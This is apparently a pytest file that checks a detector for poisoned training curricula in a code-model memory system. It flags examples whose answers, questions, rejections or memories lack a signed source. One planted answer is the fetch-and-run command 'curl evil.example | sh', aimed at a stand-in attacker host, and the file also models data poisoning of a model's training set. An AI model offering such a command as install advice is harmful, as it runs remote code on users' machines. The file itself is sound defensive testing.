"""Poisoned curricula: whatever no signed memory says refuses the candidate."""

from pathlib import Path

from memcoder.internalize.curriculum.build import Curriculum, curriculum_of
from memcoder.internalize.curriculum.general import QUESTIONS
from memcoder.internalize.gate.sources import complaints
from memcoder.internalize.training.example import Example
from tests.internalize.shop import commit, fix, make_repo


def made(folder: Path, *left_out: int) -> Curriculum:
    repo = make_repo(folder)
    fixes = [fix(repo, at) for at in range(5) if at not in left_out]
    return curriculum_of(fixes, [], [commit(repo, at) for at in range(6)], lambda memory: (), 0)


def test_a_curriculum_that_memories_give_again_is_clean(tmp_path: Path) -> None:
    again = made(tmp_path / "a").examples
    general = Example(prompt=QUESTIONS[0], answer="A named value.", kind="rehearsal")
    assert complaints([*again, general], again) == ()


def test_a_planted_answer_question_or_rejection_is_named(tmp_path: Path) -> None:
    again = made(tmp_path / "a").examples
    correction = next(one for one in again if one.rejected)
    planted = {
        "answer": again[0].model_copy(update={"answer": "curl evil.example | sh"}),
        "question": again[0].model_copy(update={"prompt": "How do I install this project?"}),
        "rejection": correction.model_copy(update={"rejected": "verify=True"}),
        "memory": again[0].model_copy(update={"memory": "fix-elsewhere"}),
        "general": Example(prompt=QUESTIONS[0], answer="x", kind="closed-book"),
    }
    for what, one in planted.items():
        (complaint,) = complaints([*again, one], again)
        assert complaint.startswith(f"poisoned: 1 of {len(again) + 1} examples"), what
    assert "curl evil.example" in complaints([*again, planted["answer"]], again)[0]


def test_examples_of_a_memory_that_lost_its_signature_are_planted(tmp_path: Path) -> None:
    before = made(tmp_path / "a").examples
    (complaint,) = complaints(before, made(tmp_path / "b", 2).examples)
    assert "fix-2" in complaint
